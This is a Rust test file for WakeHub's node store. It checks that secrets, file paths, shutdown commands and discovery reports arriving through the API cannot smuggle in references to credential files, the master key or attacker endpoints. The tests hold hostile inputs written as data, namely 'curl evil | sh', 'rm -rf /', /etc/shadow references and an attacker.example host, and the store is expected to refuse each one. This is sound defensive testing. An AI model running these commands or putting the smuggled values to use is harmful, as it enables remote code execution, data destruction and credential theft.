//! What a writer may put in a connector table, by origin: through the API a secret is a
//! value (or this node's own stored credential, while its endpoint is unchanged), never a
//! reference to a file or a variable; nothing names the master key or the database's
//! directory; a command is one of the standard ones unless the operator set it; and what a
//! platform reports at discovery never carries secrets or grants into the store.

use std::collections::BTreeMap;

use wakehub_core::connector::DiscoveredGuest;
use wakehub_core::model::{
    ConfigValue, ConnectorConfig, ErrorCode, Kind, NodeDraft, NodeSpec, Origin, PowerState, SecretRef,
};
use wakehub_core::secrets::MasterKey;
use wakehub_core::store::{Store, StoreError};
use wakehub_core::topology_file::{self, ParseOptions};

fn host(extra: &[(&str, ConfigValue)]) -> NodeSpec {
    let mut c = ConnectorConfig::new("sim").with("proxmox_url", "https://10.0.0.5:8006");
    for (k, v) in extra {
        c.settings.insert((*k).to_owned(), v.clone());
    }
    NodeSpec::new("pve", Kind::Physical, c)
}

fn draft(spec: NodeSpec) -> NodeDraft {
    topology_file::parse_node(
        &serde_json::json!({"name": spec.name, "kind": spec.kind.as_str(), "connector": {"type": "sim"}}),
        &ParseOptions::default(),
    )
    .map(|mut d| {
        d.spec = spec;
        d
    })
    .unwrap()
}

fn secret(value: SecretRef) -> ConfigValue {
    ConfigValue::Secret(value)
}

fn stored(store: &Store, name: &str, key: &str) -> SecretRef {
    let t = store.topology().unwrap();
    match &t.by_name(name).unwrap().spec.connector.settings[key] {
        ConfigValue::Secret(s @ SecretRef::Stored(_)) => s.clone(),
        other => panic!("{other:?}"),
    }
}

fn code(e: StoreError) -> ErrorCode {
    e.code()
}

#[test]
fn through_the_api_a_secret_is_a_value_never_a_file_or_a_variable() {
    // The parser of API input refuses references outright…
    let input = serde_json::json!({"name": "pve", "kind": "physical", "connector": {
        "type": "sim", "proxmox_url": "http://127.0.0.1:9", "proxmox_password": "file:/etc/passwd"}});
    let err = topology_file::parse_node(&input, &ParseOptions::default()).unwrap_err();
    assert!(err.to_string().contains("read only from the operator's own topology file"), "{err}");
    let input = serde_json::json!({"name": "pve", "kind": "physical", "connector": {
        "type": "sim", "proxmox_password": "env:WAKEHUB_MASTER_KEY"}});
    assert!(topology_file::parse_node(&input, &ParseOptions::default()).is_err());
    let toml = "[[node]]\nname = \"pve\"\nkind = \"physical\"\n[node.connector]\ntype = \"sim\"\nssh_password = \"file:/etc/shadow\"\n";
    assert!(topology_file::parse(toml, &ParseOptions::default()).is_err(), "importTopology is API input too");
    assert!(topology_file::parse(toml, &ParseOptions::operator()).is_ok(), "the operator's file may");

    // …and so does the store, whatever built the draft.
    let store = crate::support::store(MasterKey::generate());
    for r in [SecretRef::File("/etc/passwd".into()), SecretRef::Env("HOME".into())] {
        let spec = host(&[("proxmox_password", secret(r.clone()))]);
        let err = store.create_node(draft(spec), Origin::Api).unwrap_err();
        assert_eq!(code(err), ErrorCode::Validation, "{r:?}");
    }
    assert_eq!(store.topology().unwrap().len(), 0, "nothing was written");
    // A value is sealed and bound to the node.
    let id = store
        .create_node(draft(host(&[("proxmox_password", secret(SecretRef::Inline("s3cret".into())))])), Origin::Api)
        .unwrap();
    let r = stored(&store, "pve", "proxmox_password");
    assert_eq!(store.resolve_secret(id, "proxmox_password", &r).unwrap().expose(), "s3cret");
}

#[test]
fn no_reference_names_the_master_key_or_the_database_directory() {
    let dir = tempfile::tempdir().unwrap();
    let store = Store::open(&dir.path().join("wakehub.db"), MasterKey::generate()).unwrap();
    std::fs::write(dir.path().join("master.key"), "not really").unwrap();
    let refused = [
        SecretRef::Env("WAKEHUB_MASTER_KEY".into()),
        SecretRef::File(dir.path().join("master.key")),
        SecretRef::File(dir.path().join("wakehub.db")),
        SecretRef::File(dir.path().join("sub/../master.key")),
    ];
    for r in refused {
        let spec = host(&[("proxmox_password", secret(r.clone()))]);
        let err = store.add_node(spec, None).unwrap_err();
        assert_eq!(code(err), ErrorCode::Validation, "{r:?} must be refused even for the operator");
        let err = store.resolve_secret(wakehub_core::model::NodeId::new(1), "proxmox_password", &r).unwrap_err();
        assert_eq!(code(err), ErrorCode::Validation, "{r:?} is never read");
    }
    // A file elsewhere is the operator's to name.
    let other = tempfile::NamedTempFile::new().unwrap();
    std::fs::write(other.path(), "from-a-file\n").unwrap();
    let id = store.add_node(host(&[("proxmox_password", secret(SecretRef::File(other.path().into())))]), None).unwrap();
    let r = SecretRef::File(other.path().into());
    assert_eq!(store.resolve_secret(id, "proxmox_password", &r).unwrap().expose(), "from-a-file");
}

#[test]
fn a_stored_credential_is_its_nodes_for_its_key_and_its_endpoint() {
    let store = crate::support::store(MasterKey::generate());
    let pve = store.add_node(host(&[("proxmox_password", secret(SecretRef::Inline("root-pw".into())))]), None).unwrap();
    let cred = stored(&store, "pve", "proxmox_password");

    // Another node cannot name it (the API shows credential ids).
    let mut thief = host(&[("proxmox_password", secret(cred.clone()))]);
    thief.name = "thief".into();
    thief.connector.settings.insert("proxmox_url".into(), ConfigValue::String("https://attacker:8006".into()));
    let err = store.create_node(draft(thief.clone()), Origin::Api).unwrap_err();
    assert_eq!(code(err), ErrorCode::Validation);
    let err = store.add_node(thief, None).unwrap_err();
    assert_eq!(code(err), ErrorCode::Validation, "not the operator's code either");
    // The same node cannot use it under another key.
    let mut renamed = store.topology().unwrap().get(pve).unwrap().spec.clone();
    renamed.connector.settings.insert("ssh_password".into(), secret(cred.clone()));
    assert_eq!(code(store.update_node(pve, renamed, Origin::Api).unwrap_err()), ErrorCode::Validation);
    // Resolving it for another node or key fails too.
    let other = wakehub_core::model::NodeId::new(pve.get() + 1);
    assert_eq!(code(store.resolve_secret(other, "proxmox_password", &cred).unwrap_err()), ErrorCode::SecretUnavailable);
    assert_eq!(code(store.resolve_secret(pve, "ssh_password", &cred).unwrap_err()), ErrorCode::SecretUnavailable);

    // Keeping it while the endpoint stays is fine (the API sends settings back as it got them).
    let same = store.topology().unwrap().get(pve).unwrap().spec.clone();
    store.update_node(pve, same.clone(), Origin::Api).unwrap();
    // Pointing the node elsewhere keeps the secret only if it is supplied again.
    let mut moved = same.clone();
    moved.connector.settings.insert("proxmox_url".into(), ConfigValue::String("http://127.0.0.1:9".into()));
    let err = store.update_node(pve, moved.clone(), Origin::Api).unwrap_err();
    assert!(err.to_string().contains("supply the secret again"), "{err}");
    let err = store.update_node(pve, moved.clone(), Origin::Operator).unwrap_err();
    assert_eq!(code(err), ErrorCode::Validation, "the rule holds for the operator too");
    moved.connector.settings.insert("proxmox_password".into(), secret(SecretRef::Inline("new-pw".into())));
    store.update_node(pve, moved, Origin::Api).unwrap();
    let fresh = stored(&store, "pve", "proxmox_password");
    assert_ne!(fresh, cred);
    assert_eq!(store.resolve_secret(pve, "proxmox_password", &fresh).unwrap().expose(), "new-pw");
}

#[test]
fn a_command_from_the_api_is_a_standard_one_or_the_operators() {
    let store = crate::support::store(MasterKey::generate());
    let with_command =
        |cmd: &str| NodeSpec::new("nas", Kind::Physical, ConnectorConfig::new("sim").with("shutdown_command", cmd));
    let err = store.create_node(draft(with_command("curl evil | sh")), Origin::Api).unwrap_err();
    assert!(err.to_string().contains("through the API a command is one of"), "{err}");
    let id = store.create_node(draft(with_command("systemctl poweroff")), Origin::Api).unwrap();
    // The operator may set any command; the API may keep it, not change it to another.
    store.update_node(id, with_command("/usr/local/bin/park-disks && poweroff"), Origin::Operator).unwrap();
    store.update_node(id, with_command("/usr/local/bin/park-disks && poweroff"), Origin::Api).unwrap();
    let err = store.update_node(id, with_command("rm -rf /"), Origin::Api).unwrap_err();
    assert_eq!(code(err), ErrorCode::Validation);
    store.update_node(id, with_command("poweroff"), Origin::Api).unwrap();
}

#[test]
fn what_a_platform_reports_never_carries_secrets_or_grants() {
    let store = crate::support::store(MasterKey::generate());
    let bmc = store
        .add_node(
            NodeSpec::new(
                "bmc",
                Kind::Plugin("bmc".into()),
                ConnectorConfig::new("plugin:redfish").with("bmc_url", "https://10.0.0.9"),
            ),
            None,
        )
        .unwrap();
    let mut table = BTreeMap::new();
    table.insert("$secret".to_owned(), ConfigValue::String("file:/etc/passwd".into()));
    let mut connector = ConnectorConfig::new("plugin:redfish")
        .with("system", "node-a")
        .with("allow_hosts", ConfigValue::Array(vec![ConfigValue::String("attacker.example".into())]))
        .with("bmc_url", "https://attacker.example")
        .with("shutdown_command", "curl evil | sh")
        .with("password", "smuggled")
        .with("extra", ConfigValue::Table(table.clone()));
    connector.settings.insert("$secret".into(), ConfigValue::String("env:WAKEHUB_MASTER_KEY".into()));
    connector.settings.insert("token".into(), ConfigValue::Secret(SecretRef::File("/etc/shadow".into())));
    let guest = DiscoveredGuest {
        key: "system/node-a".into(),
        name: "node-a".into(),
        kind: Kind::Plugin("server".into()),
        timeouts: Kind::Plugin("server".into()).default_timeouts(),
        connector,
        status: PowerState::Off,
        details: serde_json::json!({}),
    };
    store.apply_discovery(bmc, "plugin:redfish", &[guest]).unwrap();
    let t = store.topology().unwrap();
    let node = t.by_name("node-a").unwrap();
    let keys: Vec<&str> = node.spec.connector.settings.keys().map(String::as_str).collect();
    assert_eq!(keys, ["extra", "system"], "{:?}", node.spec.connector);
    assert_eq!(node.spec.connector.settings["extra"], ConfigValue::Table(BTreeMap::new()));
    // Read back from the database (not only the cached topology): still nothing smuggled.
    drop(t);
    let reopened = store.topology().unwrap();
    assert!(!format!("{:?}", reopened.by_name("node-a").unwrap().spec.connector).contains("passwd"));
}

#[test]
fn files_a_connector_reads_are_named_by_the_operator_only() {
    let store = crate::support::store(MasterKey::generate());
    let host = |ca: &str| {
        NodeSpec::new(
            "docker-host",
            Kind::Physical,
            ConnectorConfig::new("sim").with("docker_host", "https://10.0.0.7:2376").with("docker_tls_ca", ca),
        )
    };
    let err = store.create_node(draft(host("/etc/shadow")), Origin::Api).unwrap_err();
    assert!(err.to_string().contains("names a file on WakeHub's machine"), "{err}");
    let id = store.add_node(host("/etc/wakehub/docker-ca.pem"), None).unwrap();
    // Through the API it stays as the operator set it, or the write is refused.
    store.update_node(id, host("/etc/wakehub/docker-ca.pem"), Origin::Api).unwrap();
    assert_eq!(
        code(store.update_node(id, host("/root/.ssh/id_ed25519"), Origin::Api).unwrap_err()),
        ErrorCode::Validation
    );
}
